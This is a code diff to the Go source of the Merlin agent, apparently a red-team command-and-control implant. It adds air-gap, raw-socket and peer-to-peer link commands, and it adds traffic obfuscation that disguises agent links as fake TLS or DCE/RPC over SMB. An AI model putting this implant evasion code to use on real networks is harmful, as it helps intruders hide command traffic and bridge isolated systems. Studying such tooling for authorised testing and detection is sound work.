@@ -22,10 +22,7 @@ package commands
 
 import (
 	// Standard
-	"bytes"
 	"encoding/base64"
-	"encoding/binary"
-	"encoding/gob"
 	"fmt"
 	"math"
 	"math/rand"
@@ -37,13 +34,14 @@ import (
 	"github.com/google/uuid"
 
 	// Merlin
-	"github.com/Ne0nd0g/merlin-message"
 	"github.com/Ne0nd0g/merlin-message/jobs"
 
 	// Internal
 	"github.com/Ne0nd0g/merlin-agent/v2/cli"
 	"github.com/Ne0nd0g/merlin-agent/v2/core"
 	"github.com/Ne0nd0g/merlin-agent/v2/p2p"
+	"github.com/Ne0nd0g/merlin-agent/v2/p2p/faketls"
+	"github.com/Ne0nd0g/merlin-agent/v2/p2p/frame"
 	p2pService "github.com/Ne0nd0g/merlin-agent/v2/services/p2p"
 )
 
@@ -64,6 +62,11 @@ func Link(cmd jobs.Command) (results jobs.Results) {
 
 	// switch on first argument
 	switch strings.ToLower(cmd.Args[0]) {
+	case "airgap":
+		if len(cmd.Args) < 2 {
+			return jobs.Results{Stderr: fmt.Sprintf("expected 2 arguments with the link airgap command, received %d: %+v\n Example: link airgap E:\\merlin", len(cmd.Args), cmd.Args)}
+		}
+		return ConnectAirGap(cmd.Args[1])
 	case "list":
 		results.Stdout = peerToPeerService.List()
 		return
@@ -77,11 +80,21 @@ func Link(cmd jobs.Command) (results jobs.Results) {
 			return jobs.Results{Stderr: fmt.Sprintf("expected 2 arguments with the link udp command, received %d: %+v", len(cmd.Args), cmd.Args)}
 		}
 		return Connect("udp", cmd.Args[1:])
+	case "raw":
+		if len(cmd.Args) < 2 {
+			return jobs.Results{Stderr: fmt.Sprintf("expected 2 arguments with the link raw command, received %d: %+v\n Example: link raw 192.168.1.1 253", len(cmd.Args), cmd.Args)}
+		}
+		return ConnectRaw(cmd.Args[1:])
 	case "smb":
 		if len(cmd.Args) < 3 {
 			return jobs.Results{Stderr: fmt.Sprintf("expected 2 arguments with the link smb command, received %d: %+v\n Example: link smb 192.168.1.1 merlinPipe", len(cmd.Args), cmd.Args)}
 		}
-		return ConnectSMB(cmd.Args[1], cmd.Args[2])
+		// cmd.Args[3] = optional obfuscation wrapper for SMB links (e.g., dcerpc or dcerpc:spoolss)
+		var obfuscation string
+		if len(cmd.Args) > 3 {
+			obfuscation = cmd.Args[3]
+		}
+		return ConnectSMB(cmd.Args[1], cmd.Args[2], obfuscation)
 	case "refresh":
 		results.Stdout = peerToPeerService.Refresh()
 		return
@@ -150,7 +163,23 @@ func Connect(network string, args []string) (results jobs.Results) {
 		return
 	}
 
-	var n int
+	// args[1] = optional obfuscation wrapper for TCP links (e.g., faketls)
+	if linkType == p2p.TCPBIND && len(args) > 1 {
+		if !faketls.Enabled(args[1]) {
+			_ = conn.Close()
+			results.Stderr = fmt.Sprintf("commands/link.Connect(): unhandled obfuscation type: %s", args[1])
+			return
+		}
+		host, _, _ := net.SplitHostPort(args[0])
+		var tlsConn *faketls.Conn
+		tlsConn, err = faketls.Client(conn, host)
+		if err != nil {
+			_ = conn.Close()
+			results.Stderr = fmt.Sprintf("commands/link.Connect(): there was an error attempting to link the agent: %s", err)
+			return
+		}
+		conn = tlsConn
+	}
 
 	// We must first write data to the UDP connection to let the UDP bind Agent know we're listening and ready
 	if linkType == p2p.UDPBIND {
@@ -159,15 +188,8 @@ func Connect(network string, args []string) (results jobs.Results) {
 		base64.StdEncoding.Encode(b64, []byte(junk))
 
 		// Add in Tag/Type and Length for TLV
-		tag := make([]byte, 4)
-		binary.BigEndian.PutUint32(tag, 1)
-		length := make([]byte, 8)
-		binary.BigEndian.PutUint64(length, uint64(len(b64)))
-
-		// Create TLV
-		outData := append(tag, length...)
-		outData = append(outData, b64...)
-		cli.Message(cli.DEBUG, fmt.Sprintf("commands/link.Connect(): Added Tag: %d and Length: %d to data size of %d", tag, len(b64), len(outData)))
+		outData := frame.Frame(b64)
+		cli.Message(cli.DEBUG, fmt.Sprintf("commands/link.Connect(): Added Tag: %d and Length: %d to data size of %d", frame.TAG, len(b64), len(outData)))
 
 		// Determine number of fragments based on MaxSize
 		MaxSize := 1450
@@ -205,76 +227,16 @@ func Connect(network string, args []string) (results jobs.Results) {
 		cli.Message(cli.NOTE, fmt.Sprintf("Waiting to recieve UDP connection from %s at %s...", conn.RemoteAddr(), time.Now().UTC().Format(time.RFC3339)))
 	}
 
-	var tag uint32
-	var length uint64
-	var buff bytes.Buffer
-	for {
-		data := make([]byte, 4096)
-		// Need to have a read on the network connection for data here in this function to retrieve the linked Agent's ID so the linkedAgent structure can be stored
-		n, err = conn.Read(data)
-		if err != nil {
-			msg := fmt.Sprintf("there was an error reading data from linked agent %s: %s", args[0], err)
-			results.Stderr = msg
-			cli.Message(cli.WARN, msg)
-			return
-		}
-		cli.Message(cli.DEBUG, fmt.Sprintf("commands/link.Connect(): Read %d bytes from linked %s agent %s at %s", n, p2p.String(linkType), args[0], time.Now().UTC().Format(time.RFC3339)))
-
-		// Add the bytes to the buffer
-		n, err = buff.Write(data[:n])
-		if err != nil {
-			msg := fmt.Sprintf("commands/link.Connect(): there was an error writing %d bytes from linked agent into the buffer %s: %s", n, args[0], err)
-			results.Stderr = msg
-			cli.Message(cli.WARN, msg)
-			return
-		}
-
-		// If this is the first read on the connection determine the tag and data length
-		if tag == 0 {
-			// Ensure we have enough data to read the tag/type which is 4-bytes
-			if buff.Len() < 4 {
-				cli.Message(cli.DEBUG, fmt.Sprintf("commands/link.Connect(): Need at least 4 bytes in the buffer to read the Type/Tag for TLV but only have %d", buff.Len()))
-				continue
-			}
-			tag = binary.BigEndian.Uint32(data[:4])
-			if tag != 1 {
-				msg := fmt.Sprintf("commands/link.Connect(): Expected a type/tag value of 1 for TLV but got %d", tag)
-				results.Stderr = msg
-				cli.Message(cli.WARN, msg)
-				return
-			}
-		}
-
-		if length == 0 {
-			// Ensure we have enough data to read the Length from TLV which is 8-bytes plus the 4-byte tag/type size
-			if buff.Len() < 12 {
-				cli.Message(cli.DEBUG, fmt.Sprintf("command/link.Connect(): Need at least 12 bytes in the buffer to read the Length for TLV but only have %d", buff.Len()))
-				continue
-			}
-			length = binary.BigEndian.Uint64(data[4:12])
-		}
-
-		// If we've read all the data according to the length provided in TLV, then break the for loop
-		// Type/Tag size is 4-bytes, Length size is 8-bytes for TLV
-		if uint64(buff.Len()) == length+4+8 {
-			cli.Message(cli.DEBUG, fmt.Sprintf("command/link.Connect(): Finished reading data length of %d bytes into the buffer and moving forward to deconstruct the data", length))
-			break
-		} else {
-			cli.Message(cli.DEBUG, fmt.Sprintf("command/link.Connect(): Read %d of %d bytes into the buffer", buff.Len(), length+4+8))
-		}
-	}
-	cli.Message(cli.NOTE, fmt.Sprintf("Read %d bytes from linked %s agent %s at %s", buff.Len(), p2p.String(linkType), args[0], time.Now().UTC().Format(time.RFC3339)))
-
-	// Decode GOB from server response into Base
-	var msg messages.Delegate
-	// First 4-bytes are for the Type/Tag, next 8-bytes are for the Length in TLV
-	reader := bytes.NewReader(buff.Bytes()[12:])
-
-	errD := gob.NewDecoder(reader).Decode(&msg)
-	if errD != nil {
-		err = fmt.Errorf("there was an error decoding the gob message:\r\n%s", errD.Error())
+	// Need to have a read on the network connection for data here in this function to retrieve the linked Agent's ID so the linkedAgent structure can be stored
+	// The same reader is used by the listen function so that no buffered message bytes are lost
+	reader := frame.NewReader(conn)
+	msg, err := reader.Delegate()
+	if err != nil {
+		results.Stderr = fmt.Sprintf("there was an error reading data from linked agent %s: %s", args[0], err)
+		cli.Message(cli.WARN, results.Stderr)
 		return
 	}
+	cli.Message(cli.NOTE, fmt.Sprintf("Read a %d byte delegate message from linked %s agent %s at %s", len(msg.Payload), p2p.String(linkType), args[0], time.Now().UTC().Format(time.RFC3339)))
 
 	// Store LinkedAgent
 	linkedAgent := p2p.NewLink(msg.Agent, msg.Listener, conn, linkType, conn.RemoteAddr())
@@ -285,6 +247,6 @@ func Connect(network string, args []string) (results jobs.Results) {
 	results.Stdout = fmt.Sprintf("Successfully connected to %s Agent %s at %s", linkedAgent.String(), msg.Agent, args[0])
 
 	// The listen function is in commands/listen.go
-	go listen(conn, linkType)
+	go listen(conn, reader, linkType)
 	return
 }